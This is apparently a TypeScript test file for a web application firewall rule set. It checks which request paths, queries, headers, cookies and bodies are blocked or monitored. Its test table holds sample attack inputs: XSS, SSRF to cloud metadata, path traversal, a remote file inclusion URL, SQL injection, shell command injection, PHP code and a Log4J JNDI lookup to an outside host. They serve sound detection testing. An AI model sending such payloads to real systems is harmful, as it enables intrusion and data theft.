import { describe, expect, test } from 'vitest';
import { seededNumbers } from '../../../../test/support/mutations.ts';
import { sdkRequests } from '../../../../test/support/sdk-requests.ts';
import type { HttpRequest } from '../../../core/handler.ts';
import { type RuleAction, ruleNames, rules } from './rule-catalogue.ts';
import { RuleSet, sizeLimits, VerdictCache } from './rule-set.ts';

type Head = Pick<HttpRequest, 'method' | 'path' | 'query' | 'headers'>;

const ordinary: Head = { method: 'POST', path: '/v1/messages', query: '', headers: { 'user-agent': 'curl/8.14.1', accept: '*/*' } };
const withFields = (headers: HttpRequest['headers']): Partial<Head> => ({ headers: { ...ordinary.headers, ...headers } });

function check(head: Partial<Head>, actions: Record<string, RuleAction> = {}): string[] {
	return new RuleSet(actions).checkHead({ ...ordinary, ...head }).map(({ rule, action }) => `${rule} ${action}`);
}

describe('what matches', () => {
	test.each<[string, Partial<Head>]>([
		['CrossSiteScripting_QUERYARGUMENTS', { query: 'q=%3Cscript%3Ealert(1)%3C/script%3E' }],
		['CrossSiteScripting_URIPATH', { path: '/v1/%3Cimg%20src=x%3E' }],
		['CrossSiteScripting_COOKIE', withFields({ cookie: 'a=<svg/onload=alert(1)>' })],
		['CrossSiteScripting_HEADER', withFields({ referer: 'https://x/" onmouseover=alert(1) "' })],
		['EC2MetaDataSSRF_QUERYARGUMENTS', { query: 'url=http://169.254.169.254/' }],
		['EC2MetaDataSSRF_COOKIE', withFields({ cookie: 'next=http://169.254.169.254/latest/meta-data' })],
		['EC2MetaDataSSRF_URIPATH', { path: '/proxy/169.254.169.254/x' }],
		['GenericLFI_QUERYARGUMENTS', { query: 'f=..%2f..%2fx' }],
		['GenericLFI_URIPATH', { path: '/v1/%2e%2e/%2e%2e/x' }],
		['GenericLFI_URIPATH', { path: '/.git/config' }],
		['GenericRFI_QUERYARGUMENTS', { query: 'page=http://203.0.113.9/shell.txt' }],
		['RestrictedExtensions_URIPATH', { path: '/server.log' }],
		['RestrictedExtensions_QUERYARGUMENTS', { query: 'file=dump.sql.gz' }],
		['SQLi_QUERYARGUMENTS', { query: "id=1'%20or%20'1'='1" }],
		['SQLi_HEADER', withFields({ 'x-user': "1' UNION/**/SELECT password FROM users--" })],
		['UNIXShellCommandsVariables_QUERYARGUMENTS', { query: 'c=;cat%20/tmp/x' }],
		['WindowsShellCommands_QUERYARGUMENTS', { query: 'c=%26reg%20query' }],
		['PHPHighRiskMethodsVariables_QUERYARGUMENTS', { query: 'c=<?php%20system(1)' }],
		['PHPHighRiskMethodsVariables_HEADER', withFields({ 'x-file-name': 'photo.php5' })],
		['JavaDeserializationRCE_HEADER', withFields({ 'x-data': 'java.lang.Runtime' })],
		['Log4JRCE_HEADER', withFields({ 'user-agent': '${jndi:ldap://203.0.113.9/a}' })],
		['GenericCodeInjection_QUERYARGUMENTS', { query: 'a[__proto__][b]=1' }],
		['HeaderInjection_QUERYARGUMENTS', { query: 'u=x%0d%0aSet-Cookie:%20a=b' }],
		['HeaderInjection_QUERYARGUMENTS', { query: 'a%0db=1' }],
		['HeaderInjection_URIPATH', { path: '/a%0ab' }],
		['LDAPInjection_QUERYARGUMENTS', { query: 'u=*)(uid=*' }],
		['XPathInjection_QUERYARGUMENTS', { query: "u='%5d%7c//user/*%5bcontains(*,'" }],
		['SessionFixation_QUERYARGUMENTS', { query: 'PHPSESSID=abc' }],
		[
			'SessionFixation_QUERYARGUMENTS',
			{ query: 'session_id=abc', ...withFields({ host: 'own.example', referer: 'https://other.example/' }) },
		],
		['GenericSSRF_QUERYARGUMENTS', { query: 'u=http://0x7f000001/' }],
		['UserAgent_BadBots_HEADER', withFields({ 'user-agent': 'sqlmap/1.9 (https://sqlmap.org)' })],
		['SizeRestrictions_QUERYSTRING', { query: 'x'.repeat(sizeLimits.queryLength + 1) }],
		['SizeRestrictions_URIPATH', { path: `/${'x'.repeat(sizeLimits.pathLength)}` }],
		['SizeRestrictions_Cookie_HEADER', withFields({ cookie: `a=${'x'.repeat(sizeLimits.cookieLength)}` })],
	])('%s', (rule, head) => {
		expect(check(head)).toContain(`${rule} block`);
		expect(check(head, { [rule]: 'monitor' })).toContain(`${rule} monitor`);
		expect(check(head, { [rule]: 'off' }).filter((match) => match.startsWith(`${rule} `))).toEqual([]);
	});

	test('sizes up to the limit, and a second look gives the same', () => {
		expect(check({ query: 'x'.repeat(sizeLimits.queryLength), path: `/${'x'.repeat(sizeLimits.pathLength - 1)}` })).toEqual([]);
		const ruleSet = new RuleSet({});
		const attack = { ...ordinary, query: 'q=<script>' };
		expect(ruleSet.checkHead(attack)).toEqual(ruleSet.checkHead(attack));
		expect(ruleSet.checkHead(attack)).not.toEqual([]);
		expect(ruleSet.checkHead(ordinary)).toEqual([]);
	});
});

describe('what does not', () => {
	test.each(sdkRequests.map((request) => [`${String(request.headers['user-agent'])} ${request.path}`, request] as const))(
		'%s',
		(_name, request) => {
			expect(check(request)).toEqual([]);
		},
	);

	test.each(['authorization', 'proxy-authorization', 'x-api-key', 'api-key', 'x-goog-api-key'])(
		'a secret in %s is not evaluated',
		(name) => {
			expect(check(withFields({ [name]: "Bearer <script>alert(1)</script>' or 1=1--" }))).toEqual([]);
		},
	);

	test('random letters in a query, as tokens and cursors have them: none of 10,000 is blocked', () => {
		const random = seededNumbers(7);
		const ruleSet = new RuleSet({});
		const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
		const cursor = (): string => Array.from({ length: 400 }, () => letters[Math.floor(random() * 64)]).join('');
		const queries = Array.from({ length: 10_000 }, () => `cursor=${cursor()}`);
		expect(queries.filter((query) => ruleSet.checkHead({ ...ordinary, query }).length > 0)).toEqual([]);
	});
});

test('a session in an argument is one only if no page of the same host sent it, and a name that APIs use only if another page did', () => {
	const sameSite = withFields({ host: 'api.own.example:8080', referer: 'https://app.own.example/login' });
	expect(check({ query: 'PHPSESSID=abc', ...sameSite })).toEqual([]);
	expect(check({ query: 'session_id=abc', ...sameSite })).toEqual([]);
	expect(check({ query: 'session_id=abc' })).toEqual([]);
});

describe('a request that does not say who sends it', () => {
	const { 'user-agent': _agent, ...headers } = ordinary.headers;

	test.each([{}, { 'user-agent': '' }])('is counted, and blocked where that is asked for', (field) => {
		expect(check({ headers: { ...headers, ...field } })).toEqual(['NoUserAgent_HEADER monitor']);
		expect(check({ headers: { ...headers, ...field } }, { NoUserAgent_HEADER: 'block' })).toEqual(['NoUserAgent_HEADER block']);
	});

	test('unless it asks for the health of the process', () => {
		expect(check({ method: 'GET', path: '/', headers })).toEqual([]);
		expect(check({ method: 'HEAD', path: '/', headers })).toEqual([]);
		expect(check({ method: 'POST', path: '/', headers })).toHaveLength(1);
	});
});

describe('bodies', () => {
	test('are not inspected unless a rule for them is on', () => {
		expect(new RuleSet({}).watchesBodies).toBe(false);
		expect(new RuleSet({ SizeRestrictions_BODY: 'monitor' }).watchesBodies).toBe(true);
		const watching = new RuleSet({ SQLi_BODY: 'monitor', SizeRestrictions_BODY: 'monitor' });
		expect(watching.watchesBodies).toBe(true);
		expect(watching.checkBody('{"q":"1\' union select 1"}', true).map(({ rule }) => rule)).toEqual(['SQLi_BODY', 'SizeRestrictions_BODY']);
		expect(watching.checkBody('{"q":"hello"}', false)).toEqual([]);
	});
});

test('the catalogue has the names of AWS’s core rule group, each once', () => {
	const core = [
		...['NoUserAgent_HEADER', 'UserAgent_BadBots_HEADER', 'SizeRestrictions_QUERYSTRING', 'SizeRestrictions_Cookie_HEADER'],
		...['SizeRestrictions_BODY', 'SizeRestrictions_URIPATH', 'RestrictedExtensions_URIPATH', 'RestrictedExtensions_QUERYARGUMENTS'],
		...['BODY', 'COOKIE', 'URIPATH', 'QUERYARGUMENTS'].map((part) => `EC2MetaDataSSRF_${part}`),
		...['QUERYARGUMENTS', 'URIPATH', 'BODY'].flatMap((part) => [`GenericLFI_${part}`, `GenericRFI_${part}`]),
		...['COOKIE', 'QUERYARGUMENTS', 'BODY', 'URIPATH'].map((part) => `CrossSiteScripting_${part}`),
	];
	expect(core.filter((name) => !ruleNames.includes(name))).toEqual([]);
	expect(new Set(ruleNames).size).toBe(ruleNames.length);
	expect(rules.filter(({ part, defaultAction }) => part === 'BODY' && defaultAction !== 'off')).toEqual([]);
});

test('verdicts are remembered, but no more than so many', () => {
	const cache = new VerdictCache<number>(100);
	for (let index = 0; index < 10_000; index++) {
		cache.set(`text ${index}`, index);
		expect(cache.get('text 0'), 'what is asked for again stays').toBe(0);
	}
	expect(cache.size).toBeLessThanOrEqual(101);
	expect(cache.get('text 1')).toBeUndefined();
});
